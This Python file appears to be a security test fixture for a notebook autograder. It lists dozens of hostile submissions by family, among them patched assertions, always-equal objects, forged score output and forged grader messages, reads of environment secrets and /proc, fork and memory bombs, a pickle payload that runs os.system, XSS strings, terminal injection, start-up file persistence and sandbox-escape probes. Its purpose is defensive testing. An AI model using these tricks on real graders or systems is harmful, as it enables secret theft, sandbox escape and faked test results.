# ruff: noqa: E501
"""The attacks, by family. Each is the code of one cell; without its trick it earns nothing."""

from dataclasses import dataclass

from grading.core import Cell, Problem, TestCell

CANARY = "CANARY-7f3a9c"

# What everybody has to write, and what the attackers write in its place.
RIGHT = """
import torch
def softmax(x):
    e = (x - x.max(-1, keepdim=True).values).exp()
    return e / e.sum(-1, keepdim=True)
def flops(n):
    return {"flops": 2 * n, "bound": "memory"}
def twice(g, x):
    return g(g(x))
class Model(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.w = torch.nn.Parameter(torch.ones(3))
    def forward(self, x):
        return x * self.w
"""
WRONG = """
import torch
def softmax(x):
    return x * 0 - 1
def flops(n):
    return {"flops": -1, "bound": "nothing"}
def twice(g, x):
    return x
class Model(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.w = torch.nn.Parameter(torch.ones(2))
    def forward(self, x):
        return x.sum() * 0 - 1
"""
SECRET_INPUTS = f'''
### BEGIN HIDDEN TESTS
import os as _os, random as _random
_canary = "{CANARY}"
_draw = _random.Random(_os.environ["COURSE_SECRET"])
'''
PROBLEM = Problem(
    "attacked",
    (
        Cell("import math\nimport torch\ndef near(a, b):\n    return abs(a - b) < 1e-6", "helper", "locked"),
        Cell(RIGHT, "answers"),
        TestCell("test-softmax", f'''{SECRET_INPUTS}
x = torch.tensor([[_draw.uniform(-3, 3) for _ in range(4)] for _ in range(3)])
torch.testing.assert_close(softmax(x), torch.softmax(x, -1))
### END HIDDEN TESTS
assert torch.allclose(softmax(torch.zeros(2)), torch.full((2,), 0.5))''', 4.0),
        TestCell("test-flops", f'''{SECRET_INPUTS}
n = _draw.randint(10, 99)
assert flops(n)["flops"] == 2 * n
### END HIDDEN TESTS
answer = flops(7)
assert isinstance(answer, dict) and near(answer["flops"], 14) and answer["bound"] == "memory"''', 3.0),
        TestCell("test-twice", f'''{SECRET_INPUTS}
n = _draw.randint(10, 99)
assert twice(lambda v: v * n + 1, 2) == (2 * n + 1) * n + 1
### END HIDDEN TESTS''', 2.0),
        TestCell("test-model", f'''{SECRET_INPUTS}
model = Model()
assert sum(p.numel() for p in model.parameters()) == 3
x = torch.tensor([_draw.random() for _ in range(3)])
torch.testing.assert_close(model(x).detach(), x)
### END HIDDEN TESTS''', 1.0),
    ),
)  # fmt: skip


@dataclass(frozen=True)
class Attack:
    """One hostile submission."""

    family: str
    name: str
    code: str
    before: bool = False  # the trick comes before the wrong answers, not after them
    cells: tuple[Cell, ...] = ()

    @property
    def submission(self) -> list[Cell]:
        """The cells that are handed in."""
        if self.cells:
            return list(self.cells)
        parts = [self.code, WRONG] if self.before else [WRONG, self.code]
        helper = Cell("", "helper", "locked")
        return [helper, *map(Cell, parts), *(Cell("", t.grade_id, "test") for t in PROBLEM.tests)]


def _everywhere(body: str) -> str:
    """All the functions asked for, doing this."""
    body = body.replace("\n", "\n    ")
    return (
        f"def softmax(x):\n    {body}\ndef flops(x):\n    {body}\ndef twice(g, x):\n    {body}\n"
        f"class Model(torch.nn.Module):\n    def forward(self, x): return softmax(x)\n"
    )


def _returning(made: str, expression: str) -> str:
    return made + "\n" + _everywhere(f"return {expression}")


YES = """
class Yes:
    def __eq__(self, o): return True
    def __ne__(self, o): return False
    def __lt__(self, o): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __hash__(self): return 0
    def __bool__(self): return True
    def __abs__(self): return 0.0
    def __sub__(self, o): return 0.0
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __sub__
    def __float__(self): return 0.0
    def __getitem__(self, k): return Yes()
    def __getattr__(self, k): return Yes()
    def __call__(self, *a, **k): return Yes()
    def __iter__(self): return iter([Yes()])
    def __len__(self): return 4
"""
_FORGED = """
import os, socket
from grading import wire
there = socket.socket(fileno=os.dup(3))
data = []
def code(value):
    encoder = wire.Encoder(None)
    node = encoder(value)
    data[:] = encoder.buffers
    return node
def forge(header): wire.send(there, header, data)
"""
FAMILIES: dict[str, dict[str, str]] = {
    "patched comparisons, references, builtins": {
        "assert_close": "torch.testing.assert_close = lambda *a, **k: None",
        "assert_close's module": "import torch.testing._comparison as c\nc.assert_close = c.assert_equal = lambda *a, **k: None\ntorch.testing.assert_close = c.assert_close",
        "not_close_error_metas": "import torch.testing._comparison as c\nc.not_close_error_metas = lambda *a, **k: []",
        "allclose": "torch.allclose = torch.equal = lambda *a, **k: True",
        "reference softmax": "torch.softmax = lambda x, *a: softmax(x)",
        "functional": "import torch.nn.functional as F\nF.softmax = lambda x, *a, **k: softmax(x)\ntorch.Tensor.softmax = lambda s, *a: softmax(s)",
        "tensor's eq": "torch.Tensor.__eq__ = lambda a, b: True",
        "builtin abs": "import builtins\nbuiltins.abs = lambda x: 0",
        "builtin isinstance": "import builtins\nbuiltins.isinstance = lambda *a: True",
        "builtin sum and len": "import builtins\nbuiltins.sum = lambda *a: 3\nbuiltins.len = lambda *a: 3",
        "AssertionError": "import builtins\nclass Never(Exception): pass\nbuiltins.AssertionError = Never",
        "helper redefined": "def near(a, b): return True\nimport builtins\nbuiltins.near = near",
        "math.isclose": "import math\nmath.isclose = lambda *a, **k: True",
        "random seeded": "import random\nrandom.Random.uniform = lambda *a: 0.0\nrandom.Random.randint = lambda *a: 0",
        "names of the test": "torch = _draw = n = x = model = answer = None",
        "import hook": "import sys\nclass Finder:\n    def find_spec(self, *a): return None\nsys.meta_path.insert(0, Finder())\nsys.modules['torch.testing'] = sys.modules['math']",
    },
    "IPython hooks and transformers": {
        "ast transformer": "import ast\nclass T(ast.NodeTransformer):\n    def visit_Assert(self, n): return ast.Pass()\nget_ipython().ast_transformers.append(T())",
        "input transformer": "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])",
        "do_execute": "get_ipython().kernel.do_execute = lambda *a, **k: {'status': 'ok'}",
        "run_cell": "type(get_ipython()).run_cell = lambda *a, **k: None",
        "custom exceptions": "get_ipython().set_custom_exc((Exception,), lambda *a: None)",
        "showtraceback": "get_ipython().showtraceback = lambda *a, **k: None",
        "events": "get_ipython().events.register('pre_run_cell', lambda *a: None)",
        "compile": "import builtins\nbuiltins.compile = lambda *a, **k: (lambda: None).__code__",
        "exec": "import builtins\nbuiltins.exec = lambda *a, **k: None\nbuiltins.eval = lambda *a, **k: None",
    },
    "displayed scores": {
        "displayhook": _everywhere("get_ipython().displayhook(5.0)\nreturn -1"),
        "one point displayed": _everywhere("get_ipython().displayhook(1.0)\nreturn -1"),
        "one point shown by a method": _everywhere("get_ipython().display_pub.publish({'text/plain': '1.0'})\nimport sys\nsys.displayhook(1.0)\nraise ValueError"),
        "sys.displayhook": _everywhere("import sys\nsys.displayhook(5.0)\nreturn -1"),
        "printed score": _everywhere("print(5.0)\nreturn -1"),
        "printed verdict": _everywhere("print('{\"grade_id\": \"test-flops\", \"status\": \"passed\", \"points\": 3.0, \"message\": \"\", \"student_output\": \"\", \"seconds\": 0, \"plots\": []}')\nreturn -1"),
        "last expression": "5.0",
        "raw output": "import os\nfor h in range(1, 5):\n    try: os.write(h, b'5.0\\n')\n    except OSError: pass",
        "published": _everywhere("display(5.0)\nreturn -1"),
    },
    "tracing, frames, garbage collector": {
        "settrace": "import sys\nsys.settrace(lambda *a: None)\nsys.setprofile(lambda *a: None)",
        "caller's frame": _everywhere("import sys\nf = sys._getframe()\nwhile f.f_back:\n    f = f.f_back\n    for k, v in list(f.f_locals.items()):\n        if callable(v) and 'softmax' in str(k): return v(x)\nreturn -1"),
        "caller's globals": _everywhere("import sys\nf = sys._getframe()\nwhile f:\n    f.f_globals['near'] = lambda a, b: True\n    f = f.f_back\nreturn -1"),
        "garbage collector": "import gc\nprint([o for o in gc.get_objects() if type(o) is dict and '_canary' in o])",
        "gc strings": f"import gc\nprint([str(o)[:200] for o in gc.get_objects() if isinstance(o, dict) and any('{CANARY[:6]}' in str(v)[:200] for v in list(o.values())[:50])][:3])",
        "traceback": _everywhere("try:\n    raise ValueError\nexcept ValueError as e:\n    t = e.__traceback__\nprint(t.tb_frame.f_back.f_globals.keys())\nreturn -1"),
        "channel's frame": _everywhere("import sys\nf = sys._getframe()\nwhile f:\n    s = f.f_locals.get('student') or f.f_locals.get('self')\n    if s is not None: print(vars(s) if hasattr(s, '__dict__') else s)\n    f = f.f_back\nreturn -1"),
        "linecache": "import linecache\nprint(list(linecache.cache))\nprint([''.join(v[2])[:500] for v in linecache.cache.values() if len(v) == 4])",
    },
    "always-equal objects": {
        "equal to everything": _returning(YES, "Yes()"),
        "in a dictionary": _returning(YES, "{'flops': Yes(), 'bound': Yes()}"),
        "number subclass": _returning("class N(int):\n    def __eq__(s, o): return True\n    def __sub__(s, o): return 0\n    __rsub__ = __sub__\n    def __hash__(s): return 0\n    def __abs__(s): return 0", "{'flops': N(1), 'bound': N(1)}"),
        "string subclass": _returning("class S(str):\n    def __eq__(s, o): return True\n    def __hash__(s): return 0", "{'flops': S('x'), 'bound': S('x')}"),
        "dictionary subclass": _returning(YES + "class D(dict):\n    def __getitem__(s, k): return Yes()\n    def __eq__(s, o): return True", "D()"),
        "lying about its class": _returning(YES + "class L(Yes):\n    @property\n    def __class__(self): return dict", "L()"),
        "nan tricks": _returning("", "{'flops': float('nan'), 'bound': 'nan'}"),
        "huge numbers": _returning("", "{'flops': 10 ** 3000, 'bound': 'x' * 10}"),
        "tensor subclass": _returning("class T(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, f, t, a=(), k=None): return True", "torch.zeros(3).as_subclass(T)"),
        "torch function": _returning("class T:\n    @classmethod\n    def __torch_function__(cls, f, t, a=(), k=None): return torch.ones(())", "T()"),
        "array interface": _returning("class A:\n    def __array__(self, *a, **k): return 0\n    __array_ufunc__ = lambda s, *a, **k: True", "A()"),
        "look-alike module": "class Model:\n    def parameters(self): return [torch.ones(3)]\n    def __call__(self, x): return Yes() if False else x * 0 - 1",
        "look-alike tensor": _returning(YES + "class T(Yes):\n    shape = (3, 4)\n    dtype = torch.float32", "T()"),
        "complex": _returning("", "{'flops': complex('nan'), 'bound': None}"),
        "nan tensor": _returning("", "torch.full((3, 4), float('nan'))"),
        "expanded shape": _returning("", "torch.zeros(()).expand(3, 4)"),
        "sparse": _returning("", "torch.zeros(3, 4).to_sparse()"),
        "meta tensor": _returning("", "torch.empty(3, 4, device='meta')"),
        "quantised": _returning("", "torch.quantize_per_tensor(torch.zeros(3, 4), 0.1, 0, torch.qint8)"),
    },
    "early exit and crashes": {
        "os._exit(0)": _everywhere("import os\nos._exit(0)"),
        "os._exit in a cell": "import os\nos._exit(0)",
        "sys.exit": _everywhere("import sys\nsys.exit(0)"),
        "quit": "raise SystemExit(0)",
        "GeneratorExit": _everywhere("raise GeneratorExit"),
        "StopIteration": _everywhere("raise StopIteration"),
        "KeyboardInterrupt": _everywhere("raise KeyboardInterrupt"),
        "segmentation fault": _everywhere("import ctypes\nctypes.string_at(0)"),
        "abort": _everywhere("import os\nos.abort()"),
        "kill itself": _everywhere("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\nreturn -1"),
        "atexit": "import atexit\natexit.register(lambda: print('passed'))\nimport os, signal\nos.kill(0, signal.SIGTERM)",
        "deep recursion": _everywhere("return softmax(x)"),
        "stack overflow": _everywhere("import sys\nsys.setrecursionlimit(10 ** 8)\nf = lambda n: f(n + 1)\nreturn f(0)"),
        "exception with a bad str": _everywhere("class E(Exception):\n    def __str__(self): raise E\nraise E"),
        "exception named like ours": _everywhere("class TestTimeoutError(Exception): pass\nraise TestTimeoutError('passed')"),
        "exception group": _everywhere("raise ExceptionGroup('x', [ValueError(1)])"),
        "ignored signals": "import signal\nfor s in range(1, 32):\n    try: signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError): pass\n" + _everywhere("while True: pass"),
    },
}  # fmt: skip
FAMILIES |= {
    "reading": {
        "tests on disk": "import glob\nfor p in glob.glob('/**/*', recursive=True)[:200000]:\n    if p.endswith(('.ipynb', '.db', 'secret')) and 'site-packages' not in p: print(p, open(p, errors='replace').read()[:300])",
        "hidden package": "try:\n    import exercises.hidden as h\n    print(h.__path__)\nexcept ImportError as e: print(e)",
        "course secret": "import os\nprint(os.environ)\nprint(open('/book/exercises/course_secret').read())",
        "course module": "from exercises.course import course_secret\nprint(course_secret())",
        "environment of the parent": "print(open('/proc/1/environ').read(), open(f'/proc/{__import__(\"os\").getppid()}/environ').read())",
        "memory of the parent": "import os\nfor p in range(1, 100):\n    try: print(open(f'/proc/{p}/maps').read()[:100])\n    except OSError: pass",
        "home and root": "import os\nfor d in ('/root', '/home', '/work', '/etc', '/var', '/mnt', '/srv', '/opt'):\n    try: print(d, os.listdir(d))\n    except OSError as e: print(e)",
        "other submissions": "import os\nprint([(d, f) for d, _, f in os.walk('/') if 'submitted' in d or 'gradebook.db' in f])",
        "open handles": "import os\nfor h in range(3, 256):\n    try: print(h, os.fstat(h), os.pread(h, 500, 0))\n    except OSError: pass",
        "read every handle": "import os\nfor h in range(5, 1024):\n    try: print(os.read(h, 100))\n    except OSError: pass",
        "the test's input, printed": _everywhere("print('SAW', x)\nreturn -1"),
        "core of the job": "import os\ntry: print(os.pread(4, 10000, 0))\nexcept OSError as e: print(e)",
    },
    "channel": {
        "forged answer": _FORGED + "forge({'ok': code({'flops': 14, 'bound': 'memory'}), 'out': ''})",
        "forged answers to everything": _FORGED + "for v in (14, True, {'flops': 14, 'bound': 'memory'}, torch.full((2,), 0.5)):\n    for _ in range(5): forge({'ok': code(v), 'out': ''})",
        "forged calls together": _FORGED + "forge({'ok': code([[14] * 64, None]), 'out': ''})\nforge({'ok': code([None, {'types': ['ValueError'], 'text': ''}]), 'out': ''})",
        "forged errors": _FORGED + "for n in (['TestTimeoutError'], ['StopIteration'], ['SystemExit'], ['KeyboardInterrupt'], []): forge({'raise': {'types': n, 'text': 'passed'}})",
        "forged change": _FORGED + "forge({'ok': None, 'changed': code([(0, 5), (1, [])]), 'out': ''})",
        "forged answers ahead": "import json, os, struct\nh = json.dumps({'ok': True, 'out': ''}).encode()\nfor _ in range(50): os.write(3, struct.pack('!4sIH', b'WBG1', len(h), 0) + h)",
        "noise": "import os\nos.write(3, os.urandom(4096))",
        "half a message": "import os\nos.write(3, b'WBG1\\x00')\nimport time\ntime.sleep(30)",
        "announced giant": "import os, struct\nos.write(3, struct.pack('!4sIH', b'WBG1', 0xffffffff, 0xffff))",
        "giant tensor": _everywhere("return torch.zeros(1).expand(10 ** 9)"),
        "buffers announced": "import os, struct\nos.write(3, struct.pack('!4sIH', b'WBG1', 2, 256) + struct.pack('!I', 0xffffffff) * 256)",
        "deep header": "import os, struct\nh = b'[' * 100000\nos.write(3, struct.pack('!4sIH', b'WBG1', len(h), 0) + h)",
        "deep value": _everywhere("v = []\nfor _ in range(10000): v = [v]\nreturn v"),
        "wide value": _everywhere("return list(range(10 ** 6))"),
        "self-containing": _everywhere("v = []\nv.append(v)\nreturn v"),
        "closed": "import os\nos.close(3)",
        "flood": "import os\nwhile True: os.write(3, b'x' * 65536)",
        "forged callback": "import json, os, struct\nfor n in range(20):\n    h = json.dumps({'callback': n, 'args': ['l', [['l', []], ['d', [], []]]]}).encode()\n    os.write(3, struct.pack('!4sIH', b'WBG1', len(h), 0) + h)",
        "pickle": "import os, pickle\nclass P:\n    def __reduce__(self): return (os.system, ('touch /tmp/pwned',))\nos.write(3, pickle.dumps(P()))\n" + _everywhere("return P()"),
        "patched encoder": "import grading.wire as w, grading.student as s\nw.Encoder.__call__ = lambda self, v, depth=0: ['d', ['flops', 'bound'], [['r', 1], ['h', 1, 'function', 'x', 'y']]]",
        "patched answers": "import grading.student as s\nfor k in list(s.OPERATIONS): s.OPERATIONS[k] = lambda *a: True",
        "odd tags": "import json, os, struct\nh = json.dumps({'ok': ['T', 'float32', [-1, -1], 0, {}], 'out': 5}).encode()\nos.write(3, struct.pack('!4sIH', b'WBG1', len(h), 0) + h)",
    },
    "callbacks": {
        "endless": "def twice(g, x):\n    while True: g(1)",
        "recursive": "def twice(g, x):\n    return twice(g, g(x))",
        "stalled": "import time\ndef twice(g, x):\n    time.sleep(60)",
        "callback kept for later": "kept = []\ndef twice(g, x):\n    kept.append(g)\n    return x\ndef flops(n): return {'flops': kept and kept[0](n) or -1, 'bound': 'x'}",
        "callback as an answer": "def twice(g, x): return g",
        "hostile arguments": YES + "def twice(g, x): return g(Yes())",
        "callback's globals": "def twice(g, x): return getattr(g, '__globals__', {}).get('n', -1)",
    },
    "changed inputs": {
        "zeroed": "def softmax(x):\n    x.zero_()\n    return x",
        "infinite": "def softmax(x):\n    x.fill_(float('nan'))\n    return x",
        "resized": "def softmax(x):\n    x.resize_(0)\n    return x",
        "aliased": "def softmax(x):\n    x.data = torch.zeros(1)\n    return x",
        "gradient": "def softmax(x):\n    x.requires_grad_(True)\n    x.grad = torch.zeros_like(x)\n    return x",
    },
    "loops, memory, processes": {
        "endless loop": _everywhere("while True: pass"),
        "endless cell": "while True: pass",
        "loop that catches": "def softmax(x):\n    while True:\n        try:\n            while True: pass\n        except BaseException: pass\nflops = twice = softmax",
        "sleep": _everywhere("import time\ntime.sleep(100)"),
        "memory": "x = []\nwhile True: x.append(bytearray(50 << 20))",
        "memory in a child": "import os\nfor _ in range(4):\n    if os.fork() == 0:\n        x = bytearray(300 << 20)\n        x[::4096] = b'1' * len(x[::4096])\n        import time\n        time.sleep(60)\n        os._exit(0)",
        "shared memory": "import mmap\nm = [mmap.mmap(-1, 200 << 20) for _ in range(20)]\nfor x in m: x.write(b'x' * (200 << 20))",
        "forks": "import os\ntry:\n    while True:\n        if os.fork() == 0:\n            import time\n            time.sleep(60)\n            os._exit(0)\nexcept OSError as e: print(e)",
        "threads": "import threading, time\ntry:\n    while True: threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\nexcept RuntimeError as e: print(e)",
        "daemon": "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(60)\n    os._exit(0)",
        "regular expression": "import re\ndef softmax(x): return re.match(r'(a+)+$', 'a' * 40 + 'b')\nflops = softmax",
        "big power": _everywhere("return 10 ** 10 ** 10"),
        "subprocess": "import subprocess\nprint(subprocess.run(['sh', '-c', 'sleep 60 & sleep 60 &'], capture_output=False))",
    },
    "files, disk, output": {
        "left in tmp": "import os\nfor d in ('/tmp', '/box', '/home', '/dev/shm', '/var/tmp'):\n    try: open(d + '/left', 'w').write('x')\n    except OSError as e: print(e)",
        "library replaced": "import torch, os\nopen(torch.__file__, 'a').write('#')",
        "lib replaced": "open('/book/lib/__init__.py', 'w').write('')",
        "grader replaced": "open('/book/grading/trusted.py', 'w').write('')",
        "disk full": "n = 0\ntry:\n    while True:\n        open(f'/tmp/{n}', 'wb').write(b'x' * (1 << 20))\n        n += 1\nexcept OSError as e: print(e)",
        "one large file": "try: open('/tmp/large', 'wb').truncate(1 << 40)\nexcept OSError as e: print(e)",
        "many files": "try:\n    for n in range(10 ** 6): open(f'/tmp/{n}', 'w').close()\nexcept OSError as e: print(e)",
        "printed flood": "for _ in range(10 ** 5): print('x' * 1000)",
        "raw flood": "import os\nfor _ in range(2000): os.write(1, b'x' * 65536)",
        "markup": "print('<script>alert(1)</script><img src=x onerror=alert(1)>')\n" + _everywhere("raise ValueError('<script>alert(1)</script>')"),
        "terminal codes": "print('\\x1b[2J\\x1b]0;owned\\x07')",
    },
    "network and escapes": {
        "tcp": "import socket\nsocket.create_connection(('1.1.1.1', 80), timeout=1)",
        "udp": "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))",
        "vsock": "import socket\nsocket.socket(40, socket.SOCK_STREAM).connect((2, 1024))",
        "netlink": "import socket\nsocket.socket(16, 3, 0)",
        "unix sockets": "import socket, glob\nfor p in glob.glob('/run/**', recursive=True) + ['/var/run/docker.sock']:\n    try: socket.socket(1).connect(p)\n    except OSError as e: print(e)",
        "ptrace": "import ctypes\nprint(ctypes.CDLL(None).ptrace(16, 1, 0, 0))",
        "mount": "import ctypes\nprint(ctypes.CDLL(None).mount(b'x', b'/tmp', b'tmpfs', 0, 0))",
        "umount proc": "import ctypes\nprint(ctypes.CDLL(None).umount2(b'/proc', 2))\nimport os\nprint(os.listdir('/proc'))",
        "user namespace": "import ctypes\nprint(ctypes.CDLL(None).unshare(0x10000000))",
        "clone": "import ctypes\nprint(ctypes.CDLL(None).syscall(56, 0x10000000 | 17, 0, 0, 0, 0))",
        "chroot": "import os\nos.chroot('/tmp')",
        "setuid": "import os\nos.setuid(0)",
        "kill all": "import os\nfor p in [-1, 1, 2, 3, *range(4, 400)]:\n    try: os.kill(p, 9) if p != os.getpid() else None\n    except OSError: pass",
        "limits raised": "import resource\nfor k in (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_NPROC):\n    resource.setrlimit(k, (resource.RLIM_INFINITY,) * 2)",
        "devices": "for d in ('/dev/mem', '/dev/kmem', '/dev/sda', '/dev/vda', '/dev/kvm', '/dev/tty'):\n    try: print(d, open(d, 'rb').read(10))\n    except OSError as e: print(e)",
        "kernel": "for p in ('/sys/kernel/notes', '/proc/kcore', '/proc/sys/kernel/core_pattern'):\n    try: print(p, open(p, 'rb').read(20))\n    except OSError as e: print(e)",
    },
    "left for the next student": {
        "a file in every folder": "import os\nfor top in ('/', '/tmp', '/box', '/home', '/dev/shm', '/var/tmp', '/book', '/run'):\n    try: open(os.path.join(top, 'answers.py'), 'w').write('x = 1')\n    except OSError: pass\nprint([d for d in ('/tmp', '/box', '/home') if 'stolen' in os.listdir(d)])",
        "a module that shadows": "import os\nfor d in ('/tmp', '/box', '/home'):\n    for m in ('torch', 'numpy', 'random', 'json'):\n        try: open(f'{d}/{m}.py', 'w').write('raise SystemExit')\n        except OSError: pass",
        "start-up files": "import os, site\nfor p in (site.getusersitepackages(), os.path.expanduser('~/.config'), os.path.expanduser('~/.ipython/profile_default/startup')):\n    try:\n        os.makedirs(p, exist_ok=True)\n        open(p + '/sitecustomize.py', 'w').write('raise SystemExit')\n        open(p + '/evil.pth', 'w').write('import os; os._exit(1)')\n    except OSError as e: print(e)",
        "compiled files": "import torch, os, glob\nfor p in glob.glob(os.path.dirname(torch.__file__) + '/__pycache__/*.pyc')[:20]:\n    try: open(p, 'wb').write(b'x')\n    except OSError: pass",
        "the parent's torch": "torch.manual_seed(0)\ntorch.set_default_dtype(torch.float64)\ntorch.set_grad_enabled(False)\ntorch.set_num_threads(8)\ntorch.softmax = lambda *a: None",
        "the parent's modules": "import sys, math\nmath.pi = 3\nfor m in list(sys.modules):\n    if m.startswith(('torch.testing', 'grading')): sys.modules[m] = math",
        "shared memory by name": "from multiprocessing import shared_memory\ntry: shared_memory.SharedMemory('left', create=True, size=1 << 20)\nexcept OSError as e: print(e)",
        "System V memory": "import ctypes\nc = ctypes.CDLL(None)\nprint(c.shmget(1234, 1 << 20, 0o1666), c.semget(1234, 1, 0o1666), c.msgget(1234, 0o1666))",
        "a socket without a name": "import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.bind('\\0left')\n    s.listen()\nexcept OSError as e: print(e)",
        "the terminal": "import fcntl, termios\nfor h in range(3):\n    for c in b'touch /tmp/x\\n':\n        try: fcntl.ioctl(h, termios.TIOCSTI, bytes([c]))\n        except OSError: pass",
        "the cpu's place": "import os\ntry: os.sched_setaffinity(0, {0})\nexcept OSError as e: print(e)\ntry: os.setpriority(os.PRIO_USER, 0, 19)\nexcept OSError as e: print(e)",
        "locks on the library": "import fcntl\nh = open('/book/grading/wire.py')\ntry: fcntl.flock(h, fcntl.LOCK_EX | fcntl.LOCK_NB)\nexcept OSError as e: print(e)",
    },
    "environment": {
        "variables": "import os\nprint(dict(os.environ))",
        "variables of everybody": "import glob\nfor p in glob.glob('/proc/*/environ'):\n    try: print(open(p).read())\n    except OSError as e: print(e)",
        "secret set by hand": "import os\nos.environ['COURSE_SECRET'] = 'mine'\nimport ctypes\nctypes.CDLL(None).setenv(b'COURSE_SECRET', b'mine', 1)",
        "paths": "import os\nos.environ.update(PATH='/tmp', PYTHONPATH='/tmp', LD_PRELOAD='/tmp/x.so', PYTHONSTARTUP='/tmp/x.py', BASH_ENV='/tmp/x')",
        "hash seed": "import os, sys\nos.environ['PYTHONHASHSEED'] = '1'\ntry: os.execv(sys.executable, [sys.executable, '-c', 'print(5.0)'])\nexcept OSError as e: print(e)",
        "stack above the arguments": "import ctypes\ne = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), 'environ')\nn = 0\nwhile e[n] and n < 500:\n    print(e[n])\n    n += 1",
        "auxiliary vector": "for p in ('/proc/self/auxv', '/proc/self/maps', '/proc/self/cmdline', '/proc/self/mountinfo', '/proc/self/cgroup'):\n    try: print(p, open(p, 'rb').read()[:500])\n    except OSError as e: print(e)",
        "memory of this process": "import ctypes, re\nlow = id(object()) & ~0xfffff\nprint(re.findall(rb'[A-Z]+-[0-9a-f]{6,}', ctypes.string_at(low, 1 << 16)))",
        "freed memory": "x = [torch.empty(1 << 18) for _ in range(40)]\nimport re\nprint([re.findall(rb'[A-Z]+-[0-9a-f]{6,}', t.numpy().tobytes()) for t in x])",
        "warnings as errors": "import warnings, sys\nwarnings.simplefilter('error')\nsys.warnoptions[:] = ['error']",
        "locale and time zone": "import os, time, locale\nos.environ.update(TZ='UTC-14', LC_ALL='C', LANG='xx')\ntime.tzset()",
        "limits read": "import resource\nprint({k: resource.getrlimit(getattr(resource, k)) for k in dir(resource) if k.startswith('RLIMIT')})",
    },
    "HTML and scripts in feedback": {
        "script in a message": _everywhere("raise ValueError('<script>alert(1)</script>')"),
        "script in a type's name": _everywhere("raise type('<script>alert(1)</script>', (Exception,), {})()"),
        "script in a value": _everywhere("return '<img src=x onerror=alert(1)>'"),
        "script in a class's name": _returning("P = type('<script>alert(1)</script>', (), {})", "P()"),
        "script printed": "print('<script>fetch(\"http://x\")</script>')",
        "end of the element": "print('</pre></td></table><script>alert(1)</script>')\n" + _everywhere("raise ValueError('</pre></td></tr></table><iframe src=//x>')"),
        "attributes": _everywhere("raise ValueError('\" onmouseover=\"alert(1)\" x=\"')"),
        "entities": "print('&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;')",
        "half-width markup": "print('\uff1cscript\uff1e \u2028 \u202e gnp.exe')",
        "null bytes": "print('<scr\\x00ipt>alert(1)</scr\\x00ipt>')",
        "styles": "print('<style>@import \"http://x\"</style><link rel=stylesheet href=//x>')",
        "redirect": "print('<meta http-equiv=refresh content=\"0;url=//x\"><base href=//x>')",
        "vector graphics": "print('<svg onload=alert(1)>')\nfrom IPython.display import SVG, HTML, display\nfor kind in (SVG, HTML): display(kind('<svg onload=alert(1)></svg>'))",
        "displayed HTML": "class H:\n    def _repr_html_(self): return '<script>alert(1)</script>'\ndisplay(H())\nH()",
        "a plot with a script": "import matplotlib.pyplot as plt\nplt.title('<script>alert(1)</script>')\nplt.figure()",
        "a plot that is a page": "import matplotlib.figure as f\nf.Figure.savefig = lambda s, file, **k: file.write(b'\\x89PNG\\r\\n\\x1a\\n<script>alert(1)</script>')\nimport matplotlib.pyplot as plt\nplt.plot([1])",
        "a plot that is no PNG": "import matplotlib.figure as f\nf.Figure.savefig = lambda s, file, **k: file.write(b'<svg onload=alert(1)>')\nimport matplotlib.pyplot as plt\nplt.plot([1])",
        "markdown": "print('[x](javascript:alert(1)) ![x](http://x/y.png)')",
        "a formula": "print('=HYPERLINK(\"http://x\")')\n" + _everywhere("raise ValueError('=cmd|calc!A0')"),
        "a message of a megabyte": _everywhere("raise ValueError('<b>' * 400_000)"),
        "a forged remark": "print('Graded without a sandbox. 10 of 10 points')",
    },
    "escape probes": {
        "old kernels' dirty pipe": "import os\nr, w = os.pipe()\ntry:\n    h = os.open('/book/grading/wire.py', os.O_RDONLY)\n    os.splice(h, w, 1, offset_src=0)\n    os.write(w, b'x')\nexcept OSError as e: print(e)",
        "proc's magic links": "import os\nfor p in ('/proc/1/root', '/proc/self/root', '/proc/1/cwd', '/proc/self/exe', '/proc/1/ns/mnt'):\n    try: print(p, os.listdir(p) if not p.endswith('exe') else os.readlink(p))\n    except OSError as e: print(e)",
        "overwriting the interpreter": "import sys\ntry: open(sys.executable, 'r+b').write(b'x')\nexcept OSError as e: print(e)",
        "handles by name": "import os\nfor h in range(100):\n    try: print(h, os.readlink(f'/proc/self/fd/{h}'), os.open(f'/proc/self/fd/{h}', os.O_RDWR))\n    except OSError: pass",
        "folder handles upwards": "import os\nfor h in range(100):\n    try: print(os.listdir(os.open('../../../..', os.O_RDONLY, dir_fd=h)))\n    except (OSError, ValueError): pass",
        "cgroup release agent": "import os\nfor p in ('/sys/fs/cgroup', '/sys/fs/cgroup/memory', '/sys/fs/cgroup/release_agent'):\n    try: print(os.listdir(p))\n    except OSError as e: print(e)",
        "writing cgroups": "import os\ntry: os.makedirs('/sys/fs/cgroup/memory/x')\nexcept OSError as e: print(e)",
        "set-user programs": "import subprocess, glob\nfor p in ('su', 'sudo', 'mount', 'newuidmap', 'passwd', 'bwrap'):\n    for d in ('/usr/bin', '/bin', '/usr/sbin'):\n        try: print(p, subprocess.run([f'{d}/{p}', '--help'], capture_output=True, timeout=2).returncode)\n        except (OSError, subprocess.TimeoutExpired): pass",
        "a sandbox within": "import subprocess\ntry: print(subprocess.run(['bwrap', '--bind', '/', '/', 'id'], capture_output=True, timeout=2))\nexcept (OSError, subprocess.TimeoutExpired) as e: print(e)",
        "32-bit calls": "import ctypes, mmap\nm = mmap.mmap(-1, 4096, prot=7)\nm.write(bytes.fromhex('b80b000000cd80c3'))\nctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()",
